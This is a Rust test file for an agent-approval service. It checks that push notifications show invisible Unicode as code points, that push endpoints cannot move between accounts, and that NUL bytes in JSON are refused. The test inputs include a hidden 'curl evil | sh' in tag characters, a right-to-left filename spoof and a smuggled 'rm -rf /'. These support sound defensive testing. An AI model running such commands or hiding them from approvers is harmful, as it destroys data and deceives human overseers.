//! Review R, slice "push & text": invisible characters in pushes (R1; the page's half is in
//! `browser.rs`), push endpoints that cannot change hands (R2), no push URL in any log line and no
//! proxy for pushes (R3, R4: `binary.rs`, on the real binary), and NUL refused in every JSON body
//! on both databases (R5).

mod binary;
mod push_service;

use crate::harness::{Auth, TestApp, on_both_backends, on_both_databases};
use clawgate::config::Backend;
use clawgate::domain::text;
use push_service::PushService;
use reqwest::Method;
use serde_json::{Value, json};

/// `s` written in Unicode tag characters (U+E0000 + ASCII): invisible in most fonts.
fn tags(s: &str) -> String {
    s.chars().filter_map(|c| char::from_u32(0xE0000 + u32::from(c))).collect()
}

/// How `s` looks once marked: each tag character as `[U+E00XX]`.
fn tags_marked(s: &str) -> String {
    s.chars().map(|c| format!("[U+E00{:02X}]", u32::from(c))).collect()
}

fn assert_nothing_invisible(what: &str, text: &str) {
    let hidden: Vec<String> =
        text.chars().filter(|&c| text::is_marked(c)).map(|c| format!("U+{:04X}", u32::from(c))).collect();
    assert!(hidden.is_empty(), "{what} carries invisible characters {hidden:?}: {text:?}");
}

on_both_backends!(pushes_show_invisible_characters_as_code_points);

/// R1: an agent id and a key name with tag characters, a right-to-left override and a line
/// separator reach the notification (title and the text the service worker shows) marked.
async fn pushes_show_invisible_characters_as_code_points(backend: Backend) {
    let mut service = PushService::start().await;
    let Some(app) = TestApp::spawn_with(backend, |a| a.push_allow_http_loopback = true).await else {
        return;
    };
    let ada = app.person("ada@example.com").await;
    let endpoint = service.endpoint("/push/ada");
    app.post("/api/v1/push/subscribe", &ada.auth(), service.subscription(&endpoint)).await.expect(201);
    let name = format!("deploy\u{202E}gpj.exe{}", tags(" all"));
    let key = app.post("/api/v1/auth/api-keys", &ada.auth(), json!({ "name": name })).await.expect(201);
    let key = key.body["key"].as_str().expect("key").to_owned();

    let agent = format!("bot{}\u{2028}\u{202E}", tags("; curl evil | sh"));
    let asked = app
        .post(
            "/api/v1/approval/request",
            &Auth::Bearer(key.clone()),
            json!({ "action": format!("echo hello{}", tags("; curl evil | sh")), "agentId": agent }),
        )
        .await
        .expect(201);
    let push = service.next_of("approval_request").await;
    assert_eq!(push.path, "/push/ada");
    assert_eq!(push.payload["requestId"], asked.body["requestId"]);
    let shown = format!("bot{}[U+2028][U+202E]", tags_marked("; curl evil | sh"));
    assert_eq!(push.payload["title"], format!("{shown} asks for approval"));
    assert_eq!(push.payload["agentId"], shown, "the service worker shows it in the body");
    assert_nothing_invisible("the request push", &push.payload.to_string());

    // Denied three times, the key is suspended and its owner told, naming the key.
    let first = asked.body["requestId"].as_str().expect("id").to_owned();
    app.deny(&ada, &first).await.expect(200);
    for _ in 0..2 {
        let next = app.ask(&key, "again").await;
        app.deny(&ada, &next.id).await.expect(200);
    }
    let push = service.next_of("api_key_suspended").await;
    let title = push.payload["title"].as_str().expect("title");
    assert!(title.contains(&format!("deploy[U+202E]gpj.exe{}", tags_marked(" all"))), "{title}");
    assert_nothing_invisible("the suspension push", &push.payload.to_string());
}

on_both_databases!(
    a_push_endpoint_never_moves_to_another_account,
    nul_in_any_text_field_is_refused_and_nothing_is_stored,
);

fn subscription(endpoint: &str, key_byte: u8) -> Value {
    // A valid P-256 point is not checked at subscription time beyond its length; the server
    // only needs 65 and 16 bytes here (nothing is sent: these endpoints are never pushed to).
    let p256dh = base64_url(&[vec![4u8], vec![key_byte; 64]].concat());
    json!({ "endpoint": endpoint, "expirationTime": null, "keys": { "p256dh": p256dh, "auth": base64_url(&[key_byte; 16]) } })
}

fn base64_url(bytes: &[u8]) -> String {
    use base64::Engine;
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(bytes)
}

async fn owners_of(app: &TestApp, endpoint: &str) -> Vec<(String, String)> {
    sqlx::query_as::<_, (String, String)>(
        "SELECT user_id, p256dh FROM push_subscriptions WHERE endpoint = $1 ORDER BY id",
    )
    .bind(endpoint)
    .fetch_all(app.state.db.pool())
    .await
    .expect("query")
}

/// R2: re-subscribing someone else's endpoint is refused (409) and changes nothing; the owner
/// re-subscribing renews the keys of the same subscription; two accounts racing for one new
/// endpoint: exactly one gets it.
async fn a_push_endpoint_never_moves_to_another_account(app: TestApp) {
    let ada = app.person("ada@example.com").await;
    let eve = app.person("eve@example.com").await;
    let endpoint = "https://fcm.googleapis.com/fcm/send/ada-phone";
    let first = app.post("/api/v1/push/subscribe", &ada.auth(), subscription(endpoint, 1)).await.expect(201);

    let taken = app.post("/api/v1/push/subscribe", &eve.auth(), subscription(endpoint, 2)).await;
    let taken = taken.expect_error(409, "push_endpoint_taken");
    assert!(taken.body["error"]["message"].as_str().is_some_and(|m| m.contains("another account")));
    let ada_key = base64_url(&[vec![4u8], vec![1; 64]].concat());
    assert_eq!(owners_of(&app, endpoint).await, vec![(ada.user_id.clone(), ada_key)], "nothing moved");
    let gone = app.post("/api/v1/push/unsubscribe", &eve.auth(), json!({ "endpoint": endpoint })).await;
    gone.expect_error(404, "not_found");

    // The owner's browser renewing its keys keeps the one subscription.
    let again = app.post("/api/v1/push/subscribe", &ada.auth(), subscription(endpoint, 3)).await.expect(201);
    assert_eq!(again.body["id"], first.body["id"], "the same subscription, renewed");
    let renewed = base64_url(&[vec![4u8], vec![3; 64]].concat());
    assert_eq!(owners_of(&app, endpoint).await, vec![(ada.user_id.clone(), renewed)]);

    // Both at once for a fresh endpoint: one statement decides, so one wins and one is told.
    let fresh = "https://fcm.googleapis.com/fcm/send/contested";
    let (ada_auth, eve_auth) = (ada.auth(), eve.auth());
    let (a, e) = tokio::join!(
        app.post("/api/v1/push/subscribe", &ada_auth, subscription(fresh, 4)),
        app.post("/api/v1/push/subscribe", &eve_auth, subscription(fresh, 5)),
    );
    let mut statuses = [a.status.as_u16(), e.status.as_u16()];
    statuses.sort_unstable();
    assert_eq!(statuses, [201, 409], "{} / {}", a.text, e.text);
    let owners = owners_of(&app, fresh).await;
    let winner = if a.status.as_u16() == 201 { &ada.user_id } else { &eve.user_id };
    assert_eq!(owners.len(), 1);
    assert_eq!(&owners[0].0, winner);
}

/// R5: U+0000 anywhere in a JSON body is a 400 naming the field, on both databases alike
/// (PostgreSQL answered 500, SQLite stored it), and nothing is stored.
async fn nul_in_any_text_field_is_refused_and_nothing_is_stored(app: TestApp) {
    let ada = app.person("ada@example.com").await;
    let key = app.api_key(&ada).await;
    let agent = Auth::Bearer(key.clone());
    let refused = |r: crate::harness::Resp, field: &str| {
        let r = r.expect_error(400, "invalid_request");
        let message = r.body["error"]["message"].as_str().unwrap_or_default().to_owned();
        assert!(message.contains(&format!("`{field}`")) && message.contains("U+0000"), "{message}");
    };

    for (body, field) in [
        (json!({ "action": "ls\u{0}; rm -rf /" }), "action"),
        (json!({ "action": "ls", "agentId": "bot\u{0}" }), "agentId"),
        (
            json!({ "action": "ls", "context": { "files": ["a", { "name": "b\u{0}" }] } }),
            "context.files[1].name",
        ),
        (json!({ "action": "ls", "context": { "k\u{0}": 1 } }), "context.k\\u0000"),
    ] {
        refused(app.post("/api/v1/approval/request", &agent, body).await, field);
    }
    assert_eq!(app.scalar_i64("SELECT COUNT(*) FROM approval_requests").await, 0);

    let asked = app.ask(&key, "ls").await;
    let deny = format!("/api/v1/approval/deny/{}", asked.id);
    refused(app.post(&deny, &ada.auth(), json!({ "reason": "no\u{0}" })).await, "reason");
    assert_eq!(app.status(&key, &asked.id).await.expect(200).body["status"], "PENDING");

    let endpoint = "https://fcm.googleapis.com/fcm/send/x\u{0}y";
    refused(app.post("/api/v1/push/subscribe", &ada.auth(), subscription(endpoint, 1)).await, "endpoint");
    assert_eq!(app.scalar_i64("SELECT COUNT(*) FROM push_subscriptions").await, 0);

    let keys_before = app.scalar_i64("SELECT COUNT(*) FROM api_keys").await;
    refused(app.post("/api/v1/auth/api-keys", &ada.auth(), json!({ "name": "bot\u{0}" })).await, "name");
    assert_eq!(app.scalar_i64("SELECT COUNT(*) FROM api_keys").await, keys_before);

    let passkeys = app.get("/api/v1/passkey", &ada.auth()).await.expect(200);
    let id = passkeys.body["passkeys"][0]["id"].as_str().expect("a passkey id").to_owned();
    let rename = app
        .call(
            Method::PATCH,
            &format!("/api/v1/passkey/{id}"),
            &ada.auth(),
            Some(&json!({ "name": "phone\u{0}" })),
        )
        .await;
    refused(rename, "name");
    let name: String =
        sqlx::query_scalar("SELECT name FROM passkeys").fetch_one(app.state.db.pool()).await.expect("name");
    assert_eq!(name, "test key", "the passkey keeps its name");

    refused(
        app.post("/api/v1/auth/register", &Auth::None, json!({ "email": "eve\u{0}@example.com" })).await,
        "email",
    );
}
